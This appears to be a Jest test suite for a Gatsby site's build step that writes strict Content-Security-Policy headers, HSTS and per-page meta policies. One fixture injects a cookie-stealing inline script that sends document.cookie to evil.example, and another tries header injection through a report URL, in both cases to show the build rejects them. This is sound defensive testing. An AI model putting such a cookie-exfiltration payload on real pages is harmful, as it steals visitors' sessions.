/** @jest-environment node */
import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { inlineScriptHashes, publicPagePatterns, strictPolicyProblem, writeHeaders } from "../security-headers";
import { allowedInlineScripts, type InlineScript } from "../inline-scripts";
import { startAppScript } from "../../gatsby-plugin-script-starter/start-app";
import { switchOnScript } from "../../gatsby-plugin-brand-fonts/devanagari-faces";
import { headersFor, readHeaderRules } from "../../../scripts/lib/host-rules.mjs";

const sha = (s: string) => `'sha256-${crypto.createHash("sha256").update(s).digest("base64")}'`;
let dir: string;

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "public-"));
  fs.mkdirSync(path.join(dir, "about"));
  fs.writeFileSync(
    path.join(dir, "index.html"),
    `<html><head><script>window.a=1</script></head><body><script src="/app-0123456789abcdef0123.js"></script><script type="application/ld+json">{"@type":"TravelAgency"}</script></body></html>`,
  );
  fs.writeFileSync(
    path.join(dir, "about", "index.html"),
    `<html><head></head><body><script id="x">window.a=1</script><script type="module">b()</script></body></html>`,
  );
  fs.writeFileSync(path.join(dir, "app-0123456789abcdef0123.js"), "");
  fs.writeFileSync(path.join(dir, "robots.txt"), "");
});
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

/** The fixture pages' inline scripts, as a build's generators would name them. */
const allowed: InlineScript[] = [
  { name: "script a", text: "window.a=1" },
  { name: "script b", text: "b()" },
];

describe("security headers", () => {
  it("hashes each distinct executable inline script once, never JSON-LD or external scripts", () => {
    expect(inlineScriptHashes(dir)).toEqual([sha("window.a=1"), sha("b()")].sort());
  });

  it("writes the CSP with those hashes and caches hashed assets for a year", () => {
    const template = path.join(dir, "template");
    fs.writeFileSync(template, "/*\n  Content-Security-Policy: script-src 'self' __SCRIPT_HASHES__\n");
    expect(writeHeaders(dir, template, { allowed })).toEqual({ hashes: 2, assets: 1, patterns: 2 });
    const headers = fs.readFileSync(path.join(dir, "_headers"), "utf8");
    expect(headers).toContain(`script-src 'self' ${[sha("window.a=1"), sha("b()")].sort().join(" ")}`);
    expect(headers).toContain("/app-0123456789abcdef0123.js\n  Cache-Control: public, max-age=31536000, immutable");
  });

  it("writes the public pages' CSP for every address the build made, at any depth, never the editor's", async () => {
    const page = (file: string, html = "<!doctype html><html><head><title>x</title></head><body></body></html>") => {
      fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      fs.writeFileSync(path.join(dir, file), html);
    };
    page("admin/index.html", '<!doctype html><html><head><meta charset="utf-8" /></head><body><script src="cms.js"></script></body></html>');
    page("hi/packages/domestic/kerala-backwaters/index.html");
    page("404.html", '<!doctype html><html><head><meta charSet="utf-8"/><title>x</title></head><body></body></html>');
    page("404/index.html");
    page("offline.html");
    fs.mkdirSync(path.join(dir, "page-data", "x"), { recursive: true }); // no pages: no rule
    const template = path.join(dir, "template");
    fs.writeFileSync(
      template,
      "/*\n  X-Content-Type-Options: nosniff\n\n__PUBLIC_PAGES__\n  Content-Security-Policy: script-src 'strict-dynamic' __SCRIPT_HASHES__ 'self'; object-src 'none'; base-uri 'self'; frame-ancestors 'none'\n\n/admin/*\n  Content-Security-Policy: script-src 'self'\n",
    );
    writeHeaders(dir, template, { allowed });
    expect(publicPagePatterns(dir)).toEqual(["/", "/offline", "/offline.html", "/404/*", "/about/*", "/hi/*"]);
    const { rules } = await readHeaderRules(path.join(dir, "_headers"));
    // Netlify applies every rule a path matches: each address must meet exactly one CSP rule.
    const cspRules = (p: string) => rules.filter((r) => r.forRegExp.test(p) && "Content-Security-Policy" in r.values);
    for (const p of ["/admin", "/admin/", "/admin/config.yml"]) {
      expect(cspRules(p)).toHaveLength(1);
      expect(headersFor(rules, p)["Content-Security-Policy"]).toBe("script-src 'self'");
    }
    const deep = ["/hi/packages/domestic/kerala-backwaters", "/hi/packages/domestic/kerala-backwaters/", "/hi/a/b/c/d/e/"];
    for (const p of ["/", "/about", "/about/", "/about/anything/", "/404", "/404/", "/404.html", "/offline", "/offline/", ...deep]) {
      expect(cspRules(p)).toHaveLength(1);
      expect(headersFor(rules, p)["Content-Security-Policy"]).toMatch(/^script-src 'strict-dynamic' 'sha256-/);
      expect(headersFor(rules, p)["X-Content-Type-Options"]).toBe("nosniff");
    }
    // The 404 page, served at any unknown address, holds the policy itself (frame-ancestors cannot be in a <meta>).
    const notFound = fs.readFileSync(path.join(dir, "404.html"), "utf8");
    expect(notFound).toMatch(
      /^<!doctype html><html><head><meta charSet="utf-8"\/><meta http-equiv="Content-Security-Policy" content="script-src 'strict-dynamic' 'sha256-[^"]+"\/><title>/,
    );
    expect(notFound).not.toContain("frame-ancestors");
    writeHeaders(dir, template, { allowed }); // a second run replaces the policy, never adds one
    expect(fs.readFileSync(path.join(dir, "404.html"), "utf8")).toBe(notFound);
  });

  it("writes the site's own policy strict: hashes with 'strict-dynamic', no plugins, a base-uri, and no feature browsers no longer know", () => {
    writeHeaders(dir, path.join(__dirname, "..", "..", "..", "static", "_headers"), { allowed });
    const csp = fs.readFileSync(path.join(dir, "_headers"), "utf8").match(/^\/\n\s*Content-Security-Policy: (.+)$/m)?.[1] ?? "";
    expect(strictPolicyProblem(csp)).toBe("");
    expect(csp).toMatch(/script-src 'strict-dynamic' 'sha256-/);
    expect(fs.readFileSync(path.join(dir, "_headers"), "utf8")).not.toContain("interest-cohort");
  });

  // A browser without 'strict-dynamic' (CSP level 2) uses the rest of script-src: a host there would
  // let it run any script the host serves, a JSONP endpoint's answer included (docs/decisions/0042).
  it("writes the site's own policy with no host in script-src, the fallback of a browser without 'strict-dynamic'", () => {
    writeHeaders(dir, path.join(__dirname, "..", "..", "..", "static", "_headers"), { allowed });
    const csp = fs.readFileSync(path.join(dir, "_headers"), "utf8").match(/^\/\n\s*Content-Security-Policy: (.+)$/m)?.[1] ?? "";
    const scriptSrc = /script-src ([^;]+)/.exec(csp)![1].split(" ");
    expect(scriptSrc.filter((s) => !s.startsWith("'"))).toEqual([]);
    expect(scriptSrc.at(-1)).toBe("'self'");
  });

  it.each([
    ["script-src 'self' __SCRIPT_HASHES__ https://translate.google.com; object-src 'none'; base-uri 'self'", "script-src lacks 'strict-dynamic'"],
    [
      "script-src 'strict-dynamic' __SCRIPT_HASHES__ 'self' https://translate.googleapis.com; object-src 'none'; base-uri 'self'",
      "script-src names a host (https://translate.googleapis.com), whose every script, JSONP answers included, a browser without 'strict-dynamic' would run",
    ],
    ["script-src 'strict-dynamic' 'self'; object-src 'none'; base-uri 'self'", "script-src allows no script by hash"],
    ["script-src 'strict-dynamic' __SCRIPT_HASHES__ 'unsafe-eval'; object-src 'none'; base-uri 'self'", "script-src allows 'unsafe-eval'"],
    ["script-src 'strict-dynamic' __SCRIPT_HASHES__; base-uri 'self'", "object-src is not 'none'"],
    ["script-src 'strict-dynamic' __SCRIPT_HASHES__; object-src 'none'", "it has no base-uri"],
  ])("finds a public policy that is not strict: %s", (csp, problem) => {
    expect(strictPolicyProblem(csp)).toBe(problem);
  });

  it("stops the build on a public policy that is not strict, naming the template and why", () => {
    const template = path.join(dir, "template");
    fs.writeFileSync(template, "__PUBLIC_PAGES__\n  Content-Security-Policy: script-src 'self' __SCRIPT_HASHES__; object-src 'none'; base-uri 'self'\n");
    expect(() => writeHeaders(dir, template, { allowed })).toThrow(
      `${template}: the public pages' Content-Security-Policy is not strict: script-src lacks 'strict-dynamic'`,
    );
  });

  it("refuses a template whose CSP lost its placeholder", () => {
    const template = path.join(dir, "template");
    fs.writeFileSync(template, "/*\n  Content-Security-Policy: script-src 'self'\n");
    expect(() => writeHeaders(dir, template, { allowed })).toThrow(/__SCRIPT_HASHES__/);
  });

  it("sends HSTS for a year with subdomains on every address, pages, assets and the editor (static/_headers)", async () => {
    writeHeaders(dir, path.join(__dirname, "..", "..", "..", "static", "_headers"), { allowed });
    const { rules } = await readHeaderRules(path.join(dir, "_headers"));
    for (const p of ["/", "/about/", "/app-0123456789abcdef0123.js", "/robots.txt", "/admin/", "/admin/config.yml", "/no-such-page"]) {
      const hsts = headersFor(rules, p)["Strict-Transport-Security"] ?? "";
      expect({ p, maxAge: Number(/max-age=(\d+)/.exec(hsts)?.[1] ?? 0) >= 31536000, subdomains: /;\s*includeSubDomains\b/i.test(hsts) }).toEqual({
        p,
        maxAge: true,
        subdomains: true,
      });
    }
  });
});

// The policy trusts the inline scripts the build means to write, each made by its generator, not
// whatever inline script the pages happen to hold (issue 60): one more reaching a page, from a gap
// in a check or a new raw field, fails the build instead of being allowed.
describe("the inline scripts the policy allows", () => {
  const template = () => {
    const file = path.join(dir, "template");
    fs.writeFileSync(
      file,
      "__PUBLIC_PAGES__\n  Content-Security-Policy: script-src 'strict-dynamic' __SCRIPT_HASHES__ 'self'; object-src 'none'; base-uri 'self'\n",
    );
    return file;
  };

  it("are the list's scripts, every one of them, whatever the pages hold", () => {
    const list = [...allowed, { name: "script c, on no page of this build", text: "c()" }];
    writeHeaders(dir, template(), { allowed: list });
    const csp = /Content-Security-Policy: (.+)/.exec(fs.readFileSync(path.join(dir, "_headers"), "utf8"))![1];
    expect(csp.match(/'sha256-[^']+'/g)).toEqual(list.map((s) => sha(s.text)).sort());
  });

  it("are named in public/_headers beside their hashes, for whoever reads the rules", () => {
    writeHeaders(dir, template(), { allowed });
    const headers = fs.readFileSync(path.join(dir, "_headers"), "utf8");
    expect(headers).toContain(`#   ${sha("window.a=1")} script a\n#   ${sha("b()")} script b\n`);
  });

  it("stop the build on any other inline script, naming the page and the script's start", () => {
    fs.writeFileSync(
      path.join(dir, "about", "index.html"),
      `<html><head></head><body><script>window.a=1</script><h2>x</h2><script>fetch("//evil.example/"+document.cookie)</script></body></html>`,
    );
    expect(() => writeHeaders(dir, template(), { allowed })).toThrow(
      `${path.join(dir, "about", "index.html")}: an inline script no generator of the build writes: "fetch(\\"//evil.example/\\"+document.cookie)"; the policy allows only script a, script b`,
    );
    // A script of a type a browser does not run as JavaScript is still a script the build did not mean to write.
    fs.writeFileSync(
      path.join(dir, "about", "index.html"),
      `<html><head></head><body><script type="text/x-template">b()</script><script type="text/x-template">d()</script></body></html>`,
    );
    expect(() => writeHeaders(dir, template(), { allowed })).toThrow('an inline script no generator of the build writes: "d()"');
  });

  it("are the build's own five, each made by its generator: the starter, the Devanagari switch, Gatsby's chunk map and compilation hash, and the image loader", () => {
    const chunkMap = JSON.stringify({
      app: ["/app-0123456789abcdef0123.js"],
      "component---src-pages-index-tsx": ["/component---src-pages-index-tsx-0123456789abcdef0123.js"],
    });
    fs.writeFileSync(path.join(dir, "chunk-map.json"), chunkMap);
    fs.mkdirSync(path.join(dir, "page-data"));
    fs.writeFileSync(path.join(dir, "page-data", "app-data.json"), JSON.stringify({ webpackCompilationHash: "9cb69eee5d3376b25135" }));
    const list = allowedInlineScripts(dir);
    expect(list.map((s) => s.name)).toEqual([
      "the script starter (plugins/gatsby-plugin-script-starter/start-app.ts)",
      "the Devanagari faces' switch (plugins/gatsby-plugin-brand-fonts/devanagari-faces.ts)",
      "Gatsby's chunk map (from public/chunk-map.json)",
      "Gatsby's compilation hash (from public/page-data/app-data.json)",
      "gatsby-plugin-image's loader (its gatsby-ssr.js)",
    ]);
    const text = (name: string) => list.find((s) => s.name.startsWith(name))!.text;
    expect(text("the script starter")).toBe(startAppScript());
    expect(text("the Devanagari")).toBe(switchOnScript());
    // As Gatsby 5.16.1 writes them into its scripts slice (gatsby/dist/utils/gatsby-webpack-stats-extractor.js).
    expect(text("Gatsby's chunk map")).toBe(`\n            window.___chunkMapping=${JSON.stringify(chunkMap)};\n          `);
    expect(text("Gatsby's compilation hash")).toBe('window.___webpackCompilationHash="9cb69eee5d3376b25135";');
    expect(text("gatsby-plugin-image")).toMatch(/^const e="undefined"!=typeof HTMLImageElement/);
  });
});

// A violation of the policy is reported to an address the build is given, or to none (issue 60).
describe("violation reports", () => {
  const template = path.join(__dirname, "..", "..", "..", "static", "_headers");
  const rulesAfter = async (env: Record<string, string>) => {
    fs.writeFileSync(path.join(dir, "404.html"), '<!doctype html><html><head><meta charSet="utf-8"/><title>x</title></head><body></body></html>');
    writeHeaders(dir, template, { allowed, env });
    return (await readHeaderRules(path.join(dir, "_headers"))).rules;
  };

  it("go to CSP_REPORT_URL from every policy, the pages' and the editor's, by report-uri and report-to", async () => {
    const rules = await rulesAfter({ CSP_REPORT_URL: "https://reports.example/csp" });
    for (const address of ["/", "/about/", "/admin/"]) {
      const headers = headersFor(rules, address);
      expect(headers["Content-Security-Policy"]).toMatch(/; report-uri https:\/\/reports\.example\/csp; report-to csp-endpoint$/);
      expect(headers["Reporting-Endpoints"]).toBe('csp-endpoint="https://reports.example/csp"');
    }
    // A <meta> policy cannot report: the 404 page's keeps all but that.
    expect(fs.readFileSync(path.join(dir, "404.html"), "utf8")).not.toMatch(/report-(uri|to)/);
  });

  it("go nowhere by default", async () => {
    const rules = await rulesAfter({});
    for (const address of ["/", "/admin/"]) {
      expect(headersFor(rules, address)["Content-Security-Policy"]).not.toMatch(/report-(uri|to)/);
      expect(headersFor(rules, address)["Reporting-Endpoints"]).toBeUndefined();
    }
  });

  it.each(["http://reports.example/csp", "https://reports.example/a b", "https://reports.example/csp; script-src *", 'https://reports.example/"x"', "reports"])(
    "stop the build when CSP_REPORT_URL is %s, not an https address that fits in the header",
    (url) => {
      expect(() => writeHeaders(dir, template, { allowed, env: { CSP_REPORT_URL: url } })).toThrow(
        `CSP_REPORT_URL: "${url}" is not an https address a policy can name (no spaces, quotes, commas or semicolons); set it to the address of the collector of violation reports, or leave it unset`,
      );
    },
  );
});

// A host may answer a spelling of an address its rules do not name (issue 60: /%61bout/team, or
// /index.html, with no policy): every page carries its policy in a <meta> too, all but what only a
// header can say (frame-ancestors, reports).
describe("the policy in every page", () => {
  const page = (file: string, head = '<meta charSet="utf-8"/>') => {
    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    fs.writeFileSync(path.join(dir, file), `<!doctype html><html lang="en"><head>${head}<title>x</title></head><body><main>x</main></body></html>`);
  };
  const metaOf = (file: string) =>
    /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(fs.readFileSync(path.join(dir, file), "utf8"))?.[1]?.replaceAll("&quot;", '"');
  const headerFor = async (address: string) => headersFor((await readHeaderRules(path.join(dir, "_headers"))).rules, address)["Content-Security-Policy"];
  const withoutHeaderOnly = (csp: string) => csp.replace(/;\s*(frame-ancestors|report-uri|report-to)[^;]*/g, "");

  it("gives every public page the public policy right after its charset, and the editor's page its own", async () => {
    page("index.html");
    page("about/team/index.html");
    page("hi/packages/domestic/kerala-backwaters/index.html");
    page("404.html");
    page("admin/index.html", '<meta charset="utf-8" /><meta name="robots" content="noindex, nofollow" />');
    page("_gatsby/slices/_gatsby-scripts-1.html", "");
    writeHeaders(dir, path.join(__dirname, "..", "..", "..", "static", "_headers"), { allowed, env: { CSP_REPORT_URL: "https://reports.example/csp" } });
    for (const [file, address] of [
      ["index.html", "/"],
      ["about/team/index.html", "/about/team"],
      ["hi/packages/domestic/kerala-backwaters/index.html", "/hi/packages/domestic/kerala-backwaters"],
      ["404.html", "/404.html"],
      ["admin/index.html", "/admin/"],
    ]) {
      const header = await headerFor(address);
      expect({ file, meta: metaOf(file) }).toEqual({ file, meta: withoutHeaderOnly(header) });
      expect(metaOf(file)).not.toMatch(/frame-ancestors|report-/);
      expect(fs.readFileSync(path.join(dir, file), "utf8")).toMatch(/<head><meta char[sS]et="utf-8"\s?\/><meta http-equiv="Content-Security-Policy"/);
    }
    expect(metaOf("admin/index.html")).toContain("https://api.github.com");
    expect(metaOf("index.html")).toContain("'strict-dynamic'");
    // Gatsby's slices are pieces of pages, stitched into them: no policy of their own.
    expect(fs.readFileSync(path.join(dir, "_gatsby/slices/_gatsby-scripts-1.html"), "utf8")).not.toContain("Content-Security-Policy");
  });
});
